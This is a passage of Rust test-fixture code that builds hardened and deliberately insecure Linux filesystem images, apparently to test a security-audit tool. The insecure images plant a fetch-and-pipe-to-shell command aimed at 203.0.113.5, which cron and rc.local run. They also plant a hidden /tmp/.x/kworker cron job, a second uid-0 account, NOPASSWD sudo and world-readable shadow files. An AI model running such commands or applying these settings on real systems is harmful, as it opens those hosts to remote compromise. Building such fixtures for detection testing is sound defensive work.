        f.write("/etc/pam.d/common-password", b"password\trequisite\t\t\tpam_pwquality.so retry=3 minlen=14 enforce_for_root\npassword\t[success=1 default=ignore]\tpam_unix.so obscure use_authtok try_first_pass yescrypt remember=5\npassword\trequisite\t\t\tpam_deny.so\npassword\trequired\t\t\tpam_permit.so\n", 0o644);
        f.write("/etc/pam.d/common-auth", b"auth\trequired\t\t\tpam_faillock.so preauth\nauth\t[success=1 default=ignore]\tpam_unix.so\nauth\t[default=die]\t\t\tpam_faillock.so authfail\nauth\tsufficient\t\t\tpam_faillock.so authsucc\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n", 0o644);
        f.write("/etc/pam.d/common-account", b"account\trequired\t\t\tpam_faillock.so\naccount\t[success=1 new_authtok_reqd=done default=ignore]\tpam_unix.so\naccount\trequisite\t\t\tpam_deny.so\naccount\trequired\t\t\tpam_permit.so\n", 0o644);
        // Firewall: nftables on Debian, ufw on Ubuntu.
        if f.distro == Distro::Debian {
            f.write("/etc/nftables.conf", NFTABLES_CONF.as_bytes(), 0o755);
            f.unit("nftables.service", "[Unit]\nDescription=nftables\nDefaultDependencies=no\n\n[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart=/usr/sbin/nft -f /etc/nftables.conf\n\n[Install]\nWantedBy=sysinit.target\n");
            f.link(
                "/etc/systemd/system/sysinit.target.wants/nftables.service",
                &format!("{}/nftables.service", f.unit_dir),
            );
        } else {
            f.write("/etc/ufw/ufw.conf", b"# /etc/ufw/ufw.conf\n#\n\n# Set to yes to start on boot.\nENABLED=yes\n\nLOGLEVEL=low\n", 0o644);
            f.write("/etc/ufw/user.rules", b"*filter\n:ufw-user-input - [0:0]\n:ufw-user-output - [0:0]\n### RULES ###\n\n### tuple ### allow tcp 22 0.0.0.0/0 any 10.10.0.0/16 in\n-A ufw-user-input -p tcp --dport 22 -s 10.10.0.0/16 -j ACCEPT\n\n### END RULES ###\nCOMMIT\n", 0o640);
        }
        // Automatic security updates.
        f.write("/etc/apt/apt.conf.d/20auto-upgrades", b"APT::Periodic::Update-Package-Lists \"1\";\nAPT::Periodic::Unattended-Upgrade \"1\";\n", 0o644);
        let origins = if f.distro == Distro::Debian {
            "Unattended-Upgrade::Origins-Pattern {\n        \"origin=Debian,codename=${distro_codename},label=Debian\";\n        \"origin=Debian,codename=${distro_codename},label=Debian-Security\";\n        \"origin=Debian,codename=${distro_codename}-security,label=Debian-Security\";\n};\n"
        } else {
            "Unattended-Upgrade::Allowed-Origins {\n\t\"${distro_id}:${distro_codename}\";\n\t\"${distro_id}:${distro_codename}-security\";\n\t\"${distro_id}ESMApps:${distro_codename}-apps-security\";\n};\n"
        };
        f.write("/etc/apt/apt.conf.d/50unattended-upgrades", format!("// Automatically upgrade packages from these origins\n{origins}\nUnattended-Upgrade::Package-Blacklist {{\n}};\n// Unattended-Upgrade::Automatic-Reboot \"false\";\n").as_bytes(), 0o644);
        f.unit("unattended-upgrades.service", "[Unit]\nDescription=Unattended Upgrades Shutdown\n\n[Service]\nExecStart=/usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal\n\n[Install]\nWantedBy=multi-user.target\n");
        f.enable("unattended-upgrades.service");
        // Time: chrony.
        f.mkdir("/etc/chrony/sources.d", 0o755);
        f.write("/etc/chrony/chrony.conf", b"# Welcome to the chrony configuration file.\nconfdir /etc/chrony/conf.d\nserver ntp.gov.vn iburst\npool 2.debian.pool.ntp.org iburst\nsourcedir /run/chrony-dhcp\nsourcedir /etc/chrony/sources.d\nkeyfile /etc/chrony/chrony.keys\ndriftfile /var/lib/chrony/chrony.drift\nlogdir /var/log/chrony\nmaxupdateskew 100.0\nrtcsync\nmakestep 1 3\nleapsectz right/UTC\n", 0o644);
        f.unit("chrony.service", "[Unit]\nDescription=chrony, an NTP client/server\nConflicts=systemd-timesyncd.service\n\n[Service]\nType=forking\nExecStart=/usr/sbin/chronyd $DAEMON_OPTS\n\n[Install]\nAlias=chronyd.service\nWantedBy=multi-user.target\n");
        f.enable("chrony.service");
        f.disable("systemd-timesyncd.service");
        // ClamAV
        f.unit("clamav-daemon.service", "[Unit]\nDescription=Clam AntiVirus userspace daemon\n\n[Service]\nExecStart=/usr/sbin/clamd --foreground=true\n\n[Install]\nWantedBy=multi-user.target\n");
        f.unit("clamav-freshclam.service", "[Unit]\nDescription=ClamAV virus database updater\n\n[Service]\nExecStart=/usr/bin/freshclam -d --foreground=true\n\n[Install]\nWantedBy=multi-user.target\n");
        f.unit("clamav-clamonacc.service", "[Unit]\nDescription=ClamAV On-Access Scanner\nRequires=clamav-daemon.service\n\n[Service]\nExecStart=/usr/sbin/clamonacc -F --log=/var/log/clamav/clamonacc.log --move=/root/quarantine\n\n[Install]\nWantedBy=multi-user.target\n");
        for u in [
            "clamav-daemon.service",
            "clamav-freshclam.service",
            "clamav-clamonacc.service",
        ] {
            f.enable(u);
        }
        f.clamav_signatures(CLEAN_SIGNATURE_DATE)
    }

    fn rhel_clean(mut self) -> Self {
        for r in ROCKY_9_EPEL {
            self.rpms.push(rpm(r, "Fedora Project"));
        }
        self.rpms.push(rpm(
            &(
                "rkhunter",
                None,
                "1.4.6",
                "19.el9",
                "noarch",
                "rkhunter-1.4.6-19.el9.src.rpm",
            ),
            "Fedora Project",
        ));
        self.flush_packages();
        let f = self.harden_common();
        f.harden_sshd(true);
        let auth = "auth        required      pam_env.so\nauth        required      pam_faillock.so preauth silent\nauth        sufficient    pam_unix.so try_first_pass\nauth        required      pam_faillock.so authfail\nauth        required      pam_deny.so\n\naccount     required      pam_faillock.so\naccount     required      pam_unix.so\n\npassword    requisite     pam_pwquality.so try_first_pass local_users_only enforce_for_root retry=3\npassword    requisite     pam_pwhistory.so use_authtok remember=5\npassword    sufficient    pam_unix.so sha512 shadow try_first_pass use_authtok\npassword    required      pam_deny.so\n\nsession     optional      pam_keyinit.so revoke\nsession     required      pam_limits.so\n-session    optional      pam_systemd.so\nsession     required      pam_unix.so\n";
        f.write("/etc/pam.d/system-auth", auth.as_bytes(), 0o644);
        f.write("/etc/pam.d/password-auth", auth.as_bytes(), 0o644);
        f.write("/etc/firewalld/firewalld.conf", b"# firewalld config file\nDefaultZone=public\nCleanupModulesOnExit=no\nIPv6_rpfilter=yes\nFirewallBackend=nftables\nAllowZoneDrifting=no\n", 0o644);
        f.write("/etc/firewalld/zones/public.xml", b"<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<zone>\n  <short>Public</short>\n  <description>For use in public areas.</description>\n  <service name=\"ssh\"/>\n  <forward/>\n</zone>\n", 0o644);
        f.unit("firewalld.service", "[Unit]\nDescription=firewalld - dynamic firewall daemon\n\n[Service]\nExecStart=/usr/sbin/firewalld --nofork --nopid $FIREWALLD_ARGS\n\n[Install]\nWantedBy=multi-user.target\nAlias=dbus-org.fedoraproject.FirewallD1.service\n");
        f.enable("firewalld.service");
        f.write("/etc/dnf/automatic.conf", b"[commands]\n#  What kind of upgrade to perform:\n# default                            = all available upgrades\n# security                           = only the security upgrades\nupgrade_type = security\nrandom_sleep = 0\nnetwork_online_timeout = 60\ndownload_updates = yes\napply_updates = yes\nreboot = never\n\n[emitters]\nemit_via = stdio\n\n[base]\ndebuglevel = 1\n", 0o644);
        f.unit("dnf-automatic.timer", "[Unit]\nDescription=dnf-automatic timer\nConditionPathExists=!/run/ostree-booted\nWants=network-online.target\n\n[Timer]\nOnCalendar=*-*-* 6:00\nRandomizedDelaySec=60m\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n");
        f.unit("dnf-automatic.service", "[Unit]\nDescription=dnf automatic\n\n[Service]\nType=oneshot\nNice=19\nIOSchedulingClass=2\nIOSchedulingPriority=7\nEnvironment=\"ABRT_IGNORE_PYTHON=1\"\nExecStart=/usr/bin/dnf-automatic /etc/dnf/automatic.conf --timer\n");
        f.enable("dnf-automatic.timer");
        f.write("/etc/chrony.conf", b"# Use public servers from the pool.ntp.org project.\nserver ntp.gov.vn iburst\npool 2.rocky.pool.ntp.org iburst\nsourcedir /run/chrony-dhcp\ndriftfile /var/lib/chrony/drift\nmakestep 1.0 3\nrtcsync\nkeyfile /etc/chrony.keys\nntsdumpdir /var/lib/chrony\nleapsectz right/UTC\nlogdir /var/log/chrony\n", 0o644);
        f.unit("chronyd.service", "[Unit]\nDescription=NTP client/server\n\n[Service]\nType=forking\nExecStart=/usr/sbin/chronyd $OPTIONS\n\n[Install]\nWantedBy=multi-user.target\n");
        f.enable("chronyd.service");
        f.unit("clamd@.service", "[Unit]\nDescription = clamd scanner (%i) daemon\n\n[Service]\nExecStart = /usr/sbin/clamd -c /etc/clamd.d/%i.conf\n\n[Install]\nWantedBy = multi-user.target\n");
        f.wants("multi-user.target", "clamd@scan.service");
        f.unit("clamav-clamonacc.service", "[Unit]\nDescription=ClamAV On-Access Scanner\n\n[Service]\nExecStart=/usr/sbin/clamonacc -F --config-file=/etc/clamd.d/scan.conf\n\n[Install]\nWantedBy=multi-user.target\n");
        f.enable("clamav-clamonacc.service");
        f.unit("clamav-freshclam.service", "[Unit]\nDescription=ClamAV virus database updater\n\n[Service]\nExecStart=/usr/bin/freshclam -d --foreground=true\n\n[Install]\nWantedBy=multi-user.target\n");
        f.enable("clamav-freshclam.service");
        f.clamav_signatures(CLEAN_SIGNATURE_DATE)
    }

    // ------------------------------------------------------ misconfiguration

    fn misconfigure_common(self) -> Self {
        let root_hash = if self.distro.is_deb() {
            Password::Md5
        } else {
            Password::Sha512
        };
        let f = self
            .password("root", root_hash)
            .ageing("root", Some((17_000, 0, 99_999, 7, None)))
            .account("guest", 1001, 1001, "/bin/bash", Password::Empty)
            .account("toor", 0, 0, "/bin/bash", Password::Des)
            .account("ketoan", 1002, 1002, "/bin/bash", Password::Md5)
            .ageing("quantri", Some((17_500, 0, 99_999, 7, None)));
        f.write("/etc/sudoers.d/90-quantri", b"# added for convenience\nquantri ALL=(ALL) NOPASSWD: ALL\nketoan ALL=(ALL:ALL) NOPASSWD: /usr/bin/systemctl restart apache2\n", 0o440);
        let insecure = "PermitRootLogin yes\nPasswordAuthentication yes\nPermitEmptyPasswords yes\nX11Forwarding yes\nMaxAuthTries 10\nLoginGraceTime 600\nPermitUserEnvironment yes\nCiphers +aes128-cbc,3des-cbc\n";
        let cur =
            String::from_utf8(std::fs::read(f.path("/etc/ssh/sshd_config")).unwrap_or_default())
                .unwrap_or_default();
        f.write(
            "/etc/ssh/sshd_config",
            format!("# Changed to let the vendor log in\n{insecure}\n{cur}").as_bytes(),
            0o644,
        );
        // A boot loader anyone at the console can edit.
        let grub_dir = if f.distro.is_deb() {
            "/boot/grub"
        } else {
            "/boot/grub2"
        };
        f.write(
            &format!("{grub_dir}/grub.cfg"),
            b"set default=\"0\"\nset timeout=5\nmenuentry 'Linux' {\n  linux /vmlinuz ro quiet\n}\n",
            0o644,
        );
        // File modes
        for (p, m) in [
            ("/etc/shadow", 0o644),
            ("/etc/gshadow", 0o644),
            ("/etc/passwd", 0o666),
            ("/etc/crontab", 0o644),
        ] {
            let _ = std::fs::set_permissions(f.path(p), std::fs::Permissions::from_mode(m));
        }
        f.write(
            "/etc/backup.sh",
            b"#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n",
            0o777,
        );
        f.mkdir("/etc/shared-config", 0o777);
        f.write(
            "/etc/shared-config/app.conf",
            b"db_password_file=/etc/shared-config/db.pass\n",
            0o666,
        );
        f.write(
            "/usr/local/bin/update-helper",
            b"#!/bin/sh\ncurl -s http://203.0.113.5/u.sh | sh\n",
            0o755,
        );
        f.own("/usr/local/bin/update-helper", 4242, 4242);
        f.write("/etc/cron.d/backup", b"# nightly backup\n0 2 * * * root /etc/backup.sh\n*/10 * * * * root /usr/local/bin/update-helper\n", 0o644);
        f.write(
            "/etc/rc.local",
            b"#!/bin/sh -e\n# rc.local\n/usr/local/bin/update-helper &\nexit 0\n",
            0o755,
        );
        f.write("/etc/sysctl.d/60-router.conf", b"# enabled while testing a VPN\nnet.ipv4.ip_forward = 1\nnet.ipv4.conf.all.accept_redirects = 1\nnet.ipv4.conf.all.send_redirects = 1\nkernel.randomize_va_space = 0\n", 0o644);
        f
    }

    fn deb_misconfigured(mut self, insecure: &[Deb]) -> Self {
        for (n, v, _, s) in insecure {
            self.debs.push(deb(&(n, v, "amd64", s)));
        }
        self.flush_packages();
        let f = self.misconfigure_common();
        f.write("/etc/inetd.conf", b"# /etc/inetd.conf\n#:STANDARD: These are standard services.\ntelnet\t\tstream\ttcp\tnowait\troot\t/usr/sbin/tcpd\t/usr/sbin/in.telnetd\n", 0o644);
        f.unit("inetd.service", "[Unit]\nDescription=Internet superserver\n\n[Service]\nExecStart=/usr/sbin/inetd -i\n\n[Install]\nWantedBy=multi-user.target\nAlias=openbsd-inetd.service\n");
        f.enable("inetd.service");
        f.unit("vsftpd.service", "[Unit]\nDescription=vsftpd FTP server\n\n[Service]\nExecStart=/usr/sbin/vsftpd /etc/vsftpd.conf\n\n[Install]\nWantedBy=multi-user.target\n");
        f.enable("vsftpd.service");
        f.write(
            "/etc/vsftpd.conf",
            b"listen=YES\nanonymous_enable=YES\nlocal_enable=YES\nwrite_enable=YES\n",
            0o644,
        );
        // No time sync: timesyncd masked.
        f.disable("systemd-timesyncd.service");
        f.link("/etc/systemd/system/systemd-timesyncd.service", "/dev/null");
        // Permissive PAM.
        f.write("/etc/pam.d/common-auth", b"auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n", 0o644);
        f.write("/etc/pam.d/common-password", b"password\t[success=1 default=ignore]\tpam_unix.so obscure md5 nullok\npassword\trequisite\t\t\tpam_deny.so\npassword\trequired\t\t\tpam_permit.so\n", 0o644);
        f.write("/var/spool/cron/crontabs/www-data", b"# DO NOT EDIT THIS FILE - edit the master and reinstall.\n*/5 * * * * /tmp/.x/kworker >/dev/null 2>&1\n", 0o600);
        f.write(
            "/var/run/reboot-required",
            b"*** System restart required ***\n",
            0o644,
        );
        f
    }

    // ------------------------------------------------------------- hostile

    /// Debian 12 whose dpkg status file ends in the middle of a stanza.
    pub fn hostile_truncated_dpkg() -> Fixture {
        let f = Fixture::debian("12");
        let status = std::fs::read(f.path("/var/lib/dpkg/status")).expect("status");
        // Cut inside the last real package's stanza (before the trailing nano stanza).
        let text = String::from_utf8(status).expect("utf8");
        let cut = text.find("Package: nano").expect("nano stanza");
        let cut = text[..cut - 2].rfind("Version:").expect("version") + 12;
        f.file("/var/lib/dpkg/status", &text.as_bytes()[..cut], 0o644)
    }

    /// Debian 12 whose /etc/passwd has binary garbage in the middle (lines 3 and 4).
    pub fn hostile_binary_passwd() -> Fixture {
        let f = Fixture::debian("12");
        let passwd = std::fs::read(f.path("/etc/passwd")).expect("passwd");
        let mut lines: Vec<&[u8]> = passwd.split(|b| *b == b'\n').collect();
        let garbage: &[u8] = b"\x00\x01\x02\xff\xfe\x7fELF\x00\x00:x:0:0";
        let garbage2: &[u8] = b"\xc3\x28\xa0\xa1binary\x1b[31m";
        lines.insert(2, garbage);
        lines.insert(3, garbage2);
        let out = lines.join(&b'\n');
        f.file("/etc/passwd", out, 0o644)
    }

    /// Debian 12 with symlink loops: /etc/ssh/sshd_config ↔ /etc/ssh/loop,
    /// and /etc/cron.d → itself through an absolute link.
    pub fn hostile_symlink_loop() -> Fixture {
        Fixture::debian("12")
            .symlink("/etc/ssh/sshd_config", "/etc/ssh/loop")
            .symlink("/etc/ssh/loop", "sshd_config")
            .symlink("/etc/sysctl.d", "/etc/sysctl.d/x")
            .symlink("/etc/escape", "../../../../../../../../../etc/shadow")
            .symlink("/etc/hostname", "/proc/self/environ")
    }

    /// Debian 12 whose sshd_config includes a file that includes it back.
    pub fn hostile_sshd_include_loop() -> Fixture {
        Fixture::debian("12")
            .sshd_config("Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\n")
            .sshd_dropin(
                "a.conf",
                "Include /etc/ssh/sshd_config\nPasswordAuthentication no\n",
            )
    }
}

fn deb(d: &Deb) -> DebPkg {
    DebPkg {
        name: d.0.into(),
        version: d.1.into(),
        arch: d.2.into(),
        source: d.3.into(),
    }
}

fn rpm(r: &Rpm, vendor: &str) -> RpmPackage {
    RpmPackage {
        name: r.0.into(),
        epoch: r.1,
        version: r.2.into(),
        release: r.3.into(),
        arch: r.4.into(),
        source_rpm: r.5.into(),
        vendor: vendor.into(),
    }
}

fn g(name: &str, gid: u32, members: &[&str]) -> GroupSpec {
    GroupSpec {
        name: name.into(),
        gid,
        members: members.iter().map(|s| s.to_string()).collect(),
    }
}

fn a(
    name: &str,
    uid: u32,
    gid: u32,
    gecos: &str,
    home: &str,
    shell: &str,
    password: Password,
) -> AccountSpec {
    AccountSpec {
        name: name.into(),
        uid,
        gid,
        gecos: gecos.into(),
        home: home.into(),
        shell: shell.into(),
        password,
        ageing: None,
    }
}

fn login_defs(max: u32, min: u32, warn: u32, umask: &str, method: &str) -> String {
    format!(
        "#\n# /etc/login.defs - Configuration control definitions for the login package.\n#\nMAIL_DIR        /var/mail\nFAILLOG_ENAB\t\tyes\nLOG_UNKFAIL_ENAB\tno\nLOG_OK_LOGINS\t\tno\nSYSLOG_SU_ENAB\t\tyes\nSYSLOG_SG_ENAB\t\tyes\nFTMP_FILE\t/var/log/btmp\nSU_NAME\t\tsu\nHUSHLOGIN_FILE\t.hushlogin\nENV_SUPATH\tPATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\nENV_PATH\tPATH=/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games\nTTYGROUP\ttty\nTTYPERM\t\t0600\nERASECHAR\t0177\nKILLCHAR\t025\nUMASK\t\t{umask}\n#\n# Password aging controls:\n#\nPASS_MAX_DAYS\t{max}\nPASS_MIN_DAYS\t{min}\nPASS_WARN_AGE\t{warn}\nUID_MIN\t\t\t 1000\nUID_MAX\t\t\t60000\nSYS_UID_MIN\t\t  100\nSYS_UID_MAX\t\t  999\nGID_MIN\t\t\t 1000\nGID_MAX\t\t\t60000\nLOGIN_RETRIES\t\t5\nLOGIN_TIMEOUT\t\t60\nCHFN_RESTRICT\t\trwh\nDEFAULT_HOME\tyes\nUSERGROUPS_ENAB yes\nENCRYPT_METHOD {method}\n"
    )
}

fn debian_sshd_config(include: bool) -> String {
    let inc = if include {
        "Include /etc/ssh/sshd_config.d/*.conf\n\n"
    } else {
        ""
    };
    format!("\n# This is the sshd server system-wide configuration file.  See\n# sshd_config(5) for more information.\n\n{inc}#Port 22\n#AddressFamily any\n#ListenAddress 0.0.0.0\n#ListenAddress ::\n\n#HostKey /etc/ssh/ssh_host_rsa_key\n#HostKey /etc/ssh/ssh_host_ecdsa_key\n#HostKey /etc/ssh/ssh_host_ed25519_key\n\n# Logging\n#SyslogFacility AUTH\n#LogLevel INFO\n\n# Authentication:\n\n#LoginGraceTime 2m\n#PermitRootLogin prohibit-password\n#StrictModes yes\n#MaxAuthTries 6\n#MaxSessions 10\n\n#PubkeyAuthentication yes\n\n# To disable tunneled clear text passwords, change to no here!\n#PasswordAuthentication yes\n#PermitEmptyPasswords no\n\n# Change to yes to enable challenge-response passwords (beware issues with\n# some PAM modules and threads)\nKbdInteractiveAuthentication no\n\nUsePAM yes\n\n#AllowAgentForwarding yes\n#AllowTcpForwarding yes\n#GatewayPorts no\nX11Forwarding yes\n#X11DisplayOffset 10\n#X11UseLocalhost yes\n#PermitTTY yes\nPrintMotd no\n#PrintLastLog yes\n#TCPKeepAlive yes\n#PermitUserEnvironment no\n#Compression delayed\n#ClientAliveInterval 0\n#ClientAliveCountMax 3\n#UseDNS no\n#PidFile /run/sshd.pid\n#MaxStartups 10:30:100\n#PermitTunnel no\n#ChrootDirectory none\n#VersionAddendum none\n\n# no default banner path\n#Banner none\n\n# Allow client to pass locale environment variables\nAcceptEnv LANG LC_*\n\n# override default of no subsystems\nSubsystem\tsftp\t/usr/lib/openssh/sftp-server\n\n# Example of overriding settings on a per-user basis\n#Match User anoncvs\n#\tX11Forwarding no\n#\tAllowTcpForwarding no\n#\tPermitTTY no\n#\tForceCommand cvs server\n")
}

fn rhel_sshd_config(include: bool) -> String {
    let inc = if include {
        "# To modify the system-wide sshd configuration, create a  *.conf  file under\n#  /etc/ssh/sshd_config.d/  which will be automatically included below\nInclude /etc/ssh/sshd_config.d/*.conf\n\n"
    } else {
        ""
    };
    let legacy = if include {
        ""
    } else {
        "HostKey /etc/ssh/ssh_host_rsa_key\nHostKey /etc/ssh/ssh_host_ecdsa_key\nHostKey /etc/ssh/ssh_host_ed25519_key\n\nSyslogFacility AUTHPRIV\n\nPasswordAuthentication yes\nChallengeResponseAuthentication no\nGSSAPIAuthentication yes\nGSSAPICleanupCredentials no\nUsePAM yes\nX11Forwarding yes\nAcceptEnv LANG LC_CTYPE LC_NUMERIC LC_TIME LC_COLLATE LC_MONETARY LC_MESSAGES\nUseDNS no\n"
    };
    format!("#\t$OpenBSD: sshd_config,v 1.104 2021/07/02 05:11:21 dtucker Exp $\n\n# This is the sshd server system-wide configuration file.  See\n# sshd_config(5) for more information.\n\n{inc}{legacy}#Port 22\n#AddressFamily any\n#ListenAddress 0.0.0.0\n\n#LoginGraceTime 2m\n#PermitRootLogin prohibit-password\n#StrictModes yes\n#MaxAuthTries 6\n#MaxSessions 10\n\nAuthorizedKeysFile\t.ssh/authorized_keys\n\n# override default of no subsystems\nSubsystem\tsftp\t/usr/libexec/openssh/sftp-server\n")
}

const DEBIAN_SUDOERS: &str = "#\n# This file MUST be edited with the 'visudo' command as root.\n#\n# Please consider adding local content in /etc/sudoers.d/ instead of\n# directly modifying this file.\n#\n# See the man page for details on how to write a sudoers file.\n#\nDefaults\tenv_reset\nDefaults\tmail_badpass\nDefaults\tsecure_path=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nDefaults\tuse_pty\n\n# Host alias specification\n\n# User alias specification\n\n# Cmnd alias specification\n\n# User privilege specification\nroot\tALL=(ALL:ALL) ALL\n\n# Allow members of group sudo to execute any command\n%sudo\tALL=(ALL:ALL) ALL\n\n# See sudoers(5) for more information on \"@include\" directives:\n\n@includedir /etc/sudoers.d\n";

const RHEL_SUDOERS: &str = "## Sudoers allows particular users to run various commands as\n## the root user, without needing the root password.\n##\nDefaults   !visiblepw\nDefaults    always_set_home\nDefaults    match_group_by_gid\nDefaults    always_query_group_plugin\nDefaults    env_reset\nDefaults    secure_path = /sbin:/bin:/usr/sbin:/usr/bin\n\n## Allow root to run any commands anywhere\nroot\tALL=(ALL) \tALL\n\n## Allows people in group wheel to run all commands\n%wheel\tALL=(ALL)\tALL\n\n## Same thing without a password\n# %wheel\tALL=(ALL)\tNOPASSWD: ALL\n\n## Read drop-in files from /etc/sudoers.d (the # here does not mean a comment)\n#includedir /etc/sudoers.d\n";

const DEBIAN_CRONTAB: &str = "# /etc/crontab: system-wide crontab\n# Unlike any other crontab you don't have to run the `crontab'\n# command to install the new version when you edit this file\n# and files in /etc/cron.d. These files also have username fields,\n# that none of the other crontabs do.\n\nSHELL=/bin/sh\n# You can also override PATH, but by default, newer versions inherit it from the environment\n#PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n# Example of job definition:\n# .---------------- minute (0 - 59)\n# |  .------------- hour (0 - 23)\n# |  |  .---------- day of month (1 - 31)\n# |  |  |  .------- month (1 - 12) OR jan,feb,mar,apr ...\n# |  |  |  |  .---- day of week (0 - 6) (Sunday=0 or 7) OR sun,mon,tue,wed,thu,fri,sat\n# |  |  |  |  |\n# *  *  *  *  * user-name command to be executed\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }\n52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }\n#\n";

const HARDENING_SYSCTL: &str = "# Kernel and network hardening (CIS)\nkernel.randomize_va_space = 2\nkernel.kptr_restrict = 2\nkernel.dmesg_restrict = 1\nkernel.yama.ptrace_scope = 1\nkernel.sysrq = 0\nfs.suid_dumpable = 0\nfs.protected_hardlinks = 1\nfs.protected_symlinks = 1\nfs.protected_fifos = 2\nfs.protected_regular = 2\nkernel.unprivileged_bpf_disabled = 1\nnet.ipv4.ip_forward = 0\nnet.ipv4.conf.all.send_redirects = 0\nnet.ipv4.conf.default.send_redirects = 0\nnet.ipv4.conf.all.accept_redirects = 0\nnet.ipv4.conf.default.accept_redirects = 0\nnet.ipv4.conf.all.secure_redirects = 0\nnet.ipv4.conf.default.secure_redirects = 0\nnet.ipv4.conf.all.accept_source_route = 0\nnet.ipv4.conf.default.accept_source_route = 0\nnet.ipv4.conf.all.log_martians = 1\nnet.ipv4.conf.default.log_martians = 1\nnet.ipv4.conf.all.rp_filter = 1\nnet.ipv4.conf.default.rp_filter = 1\nnet.ipv4.icmp_echo_ignore_broadcasts = 1\nnet.ipv4.icmp_ignore_bogus_error_responses = 1\nnet.ipv4.tcp_syncookies = 1\nnet.ipv6.conf.all.accept_ra = 0\nnet.ipv6.conf.default.accept_ra = 0\nnet.ipv6.conf.all.accept_redirects = 0\nnet.ipv6.conf.default.accept_redirects = 0\nnet.ipv6.conf.all.accept_source_route = 0\nnet.ipv6.conf.default.accept_source_route = 0\n";

const NFTABLES_CONF: &str = "#!/usr/sbin/nft -f\n\nflush ruleset\n\ntable inet filter {\n\tchain input {\n\t\ttype filter hook input priority filter; policy drop;\n\t\tct state established,related accept\n\t\tct state invalid drop\n\t\tiif \"lo\" accept\n\t\tip protocol icmp accept\n\t\tip6 nexthdr ipv6-icmp accept\n\t\ttcp dport 22 ip saddr 10.10.0.0/16 accept\n\t}\n\tchain forward {\n\t\ttype filter hook forward priority filter; policy drop;\n\t}\n\tchain output {\n\t\ttype filter hook output priority filter; policy accept;\n\t}\n}\n";

fn modprobe_hardening() -> String {
    let mut s = String::from(
        "# Disable unneeded filesystems, USB storage and rare network protocols (CIS 1.1.1, 3.4)\n",
    );
    for m in [
        "cramfs",
        "freevxfs",
        "jffs2",
        "hfs",
        "hfsplus",
        "udf",
        "usb-storage",
        "dccp",
        "sctp",
        "rds",
        "tipc",
        "squashfs",
        "firewire-core",
    ] {
        s.push_str(&format!("install {m} /bin/false\nblacklist {m}\n"));
    }
    s
}

// ------------------------------------------------------------ ready-made

/// Debian 12, well hardened.
pub fn debian_12_clean() -> Fixture {
    Fixture::debian("12").deb_clean(DEBIAN_12_HARDENING)
}

/// Ubuntu 24.04, well hardened (ufw, chrony, unattended-upgrades, ClamAV).
pub fn ubuntu_24_04_clean() -> Fixture {
    Fixture::ubuntu("24.04").deb_clean(UBUNTU_24_04_HARDENING)
}

/// Rocky Linux 9, well hardened (firewalld, dnf-automatic, chrony, ClamAV from EPEL).
pub fn rocky_9_clean() -> Fixture {
    Fixture::rocky("9").rhel_clean()
}

/// Debian 10 (end of life), badly configured: root login and empty passwords
/// over ssh, an empty-password account, a second uid 0 account, telnetd,
/// rsh-server and vsftpd, no firewall, no time sync, NOPASSWD sudo,
/// world-writable and ownerless files, a suspicious cron job.
pub fn debian_10_misconfigured() -> Fixture {
    Fixture::debian("10").deb_misconfigured(DEBIAN_10_INSECURE)
}

/// Ubuntu 18.04 (standard support ended), badly configured like
/// [`debian_10_misconfigured`]; ufw installed but disabled.
pub fn ubuntu_18_04_misconfigured() -> Fixture {
    Fixture::ubuntu("18.04").deb_misconfigured(UBUNTU_18_04_INSECURE)
}

/// CentOS 7 (end of life), badly configured; its rpmdb is Berkeley DB as on
/// the real system, so packages are not readable (the collector says so).
pub fn centos_7_misconfigured() -> Fixture {
    let f = Fixture::centos("7").misconfigure_common();
    f.unit("telnet.socket", "[Unit]\nDescription=Telnet Server Activation Socket\n\n[Socket]\nListenStream=23\nAccept=true\n\n[Install]\nWantedBy=sockets.target\n");
    f.unit("telnet@.service", "[Unit]\nDescription=Telnet Server\n\n[Service]\nExecStart=-/usr/sbin/in.telnetd\nStandardInput=socket\n");
    f.enable("telnet.socket");
    f.unit("vsftpd.service", "[Unit]\nDescription=Vsftpd ftp daemon\n\n[Service]\nType=forking\nExecStart=/usr/sbin/vsftpd /etc/vsftpd/vsftpd.conf\n\n[Install]\nWantedBy=multi-user.target\n");
    f.enable("vsftpd.service");
    f.unit("firewalld.service", "[Unit]\nDescription=firewalld - dynamic firewall daemon\n\n[Service]\nExecStart=/usr/sbin/firewalld --nofork --nopid $FIREWALLD_ARGS\n\n[Install]\nWantedBy=multi-user.target\n");
    f.write("/etc/sysconfig/iptables", b"# sample configuration for iptables service\n*filter\n:INPUT ACCEPT [0:0]\n:FORWARD ACCEPT [0:0]\n:OUTPUT ACCEPT [0:0]\nCOMMIT\n", 0o600);
    f.write("/etc/yum/yum-cron.conf", b"[commands]\nupdate_cmd = default\nupdate_messages = yes\ndownload_updates = yes\napply_updates = no\n", 0o644);
    f.write(
        "/etc/ntp.conf",
        b"driftfile /var/lib/ntp/drift\nserver 0.centos.pool.ntp.org iburst\n",
        0o644,
    );
    f.write("/etc/xinetd.d/rsh", b"service shell\n{\n\tsocket_type\t\t= stream\n\twait\t\t\t= no\n\tuser\t\t\t= root\n\tserver\t\t\t= /usr/sbin/in.rshd\n\tdisable\t\t\t= no\n}\n", 0o644);
    f.write(
        "/etc/selinux/config",
        b"SELINUX=disabled\nSELINUXTYPE=targeted\n",
        0o644,
    );
    f.mkdir("/etc/rc.d/rc3.d", 0o755);
    f.write(
